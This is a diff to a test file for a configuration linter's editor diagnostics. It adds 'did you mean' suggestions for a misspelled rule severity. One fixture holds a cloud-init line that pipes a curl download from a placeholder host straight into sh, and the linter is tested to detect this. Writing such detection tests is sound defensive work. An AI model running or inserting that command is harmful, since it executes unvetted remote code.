@@ -577,7 +577,7 @@ describe('what the editor says about configs, settings, pragmas and scans', () =
   const ws = path.join(scratch, 'feedback');
   const config = write(
     path.join(ws, '.hindsight.yaml'),
-    'rules:\n  non-persistant-route: off\n  automatic-reboot: loud\n  remote-script-piped-to-shell: info\nignor: [vendor/**]\n',
+    'rules:\n  non-persistant-route: off\n  automatic-reboot: warn\n  remote-script-piped-to-shell: info\nignor: [vendor/**]\n',
   );
   const pipe = write(path.join(ws, 'pipe', 'user-data'), '#cloud-config\nruncmd:\n  - curl -s https://x.example.com | sh\n');
   let lsp: LspSession;
@@ -594,7 +594,7 @@ describe('what the editor says about configs, settings, pragmas and scans', () =
       problems.map((problem: Diagnostic) => [problem.range.start.line, problem.range.start.character, problem.range.end.character, problem.message]),
       [
         [4, 0, 5, '.hindsight.yaml: ignor: not a setting (did you mean ignore?); it is ignored.'],
-        [2, 20, 24, '.hindsight.yaml: rules.automatic-reboot: must be one of off, info, warning, error; it is ignored.'],
+        [2, 20, 24, '.hindsight.yaml: rules.automatic-reboot: must be one of off, info, warning, error (did you mean warning?); it is ignored.'],
         [1, 2, 22, '.hindsight.yaml: rules.non-persistant-route: no rule has this id (did you mean non-persistent-route?); it is ignored.'],
       ],
     );
@@ -619,7 +619,7 @@ describe('what the editor says about configs, settings, pragmas and scans', () =
     );
     assert.ok(
       logged.includes(
-        `Config ${config}: 3 problems; the rest applies\n  .hindsight.yaml: ignor: not a setting (did you mean ignore?); it is ignored.\n  .hindsight.yaml: rules.automatic-reboot: must be one of off, info, warning, error; it is ignored.\n  .hindsight.yaml: rules.non-persistant-route: no rule has this id (did you mean non-persistent-route?); it is ignored.`,
+        `Config ${config}: 3 problems; the rest applies\n  .hindsight.yaml: ignor: not a setting (did you mean ignore?); it is ignored.\n  .hindsight.yaml: rules.automatic-reboot: must be one of off, info, warning, error (did you mean warning?); it is ignored.\n  .hindsight.yaml: rules.non-persistant-route: no rule has this id (did you mean non-persistent-route?); it is ignored.`,
       ),
       logged.join('\n'),
     );
